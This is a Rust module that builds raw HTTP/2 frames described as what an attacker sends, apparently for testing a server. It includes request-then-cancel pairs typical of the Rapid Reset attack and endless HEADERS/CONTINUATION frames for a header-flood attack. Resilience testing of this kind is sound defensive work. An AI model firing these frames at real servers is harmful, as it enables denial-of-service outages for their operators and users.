//! The frames of HTTP/2 that an attacker sends (RFC 9113, 6).

/// What a client says first, with its settings: none.
pub(crate) fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(0x4, 0, 0, &[]));
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A request for `/metrics` on a stream.
pub(crate) fn request(stream: u32) -> Vec<u8> {
    const END_STREAM: u8 = 0x1;
    const END_HEADERS: u8 = 0x4;
    // GET and https of the static table; path and authority in letters.
    let mut head = vec![0x82, 0x87];
    for (name, value) in [(0x04, "/metrics"), (0x01, "localhost")] {
        head.extend([name, u8::try_from(value.len()).unwrap()]);
        head.extend(value.as_bytes());
    }
    frame(0x1, END_STREAM | END_HEADERS, stream, &head)
}

/// Takes the request back.
pub(crate) fn reset(stream: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    frame(0x3, 0, stream, &CANCEL)
}

/// The head of a request that does not end.
pub(crate) fn endless(stream: u32) -> Vec<u8> {
    let head = [0x82, 0x87, 0x84];
    frame(0x1, 0, stream, &head)
}

/// More of that head: a header of its own.
pub(crate) fn continuation(stream: u32) -> Vec<u8> {
    let mut head = vec![0x00, 1, b'a', 0x7f, 0x81, 0x7d];
    head.extend([b'a'; 127 + 1 + (0x7d << 7)]);
    frame(0x9, 0, stream, &head)
}
